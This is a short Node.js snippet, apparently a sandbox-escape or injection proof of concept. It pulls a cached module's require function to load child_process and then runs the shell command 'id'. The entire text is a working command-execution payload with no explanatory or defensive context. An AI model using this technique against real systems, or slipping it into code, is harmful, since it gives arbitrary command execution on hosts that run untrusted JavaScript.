const key = Object.keys(require.cache)[0];
const cp = require.cache[key].require('child_process');
cp.exec('id');
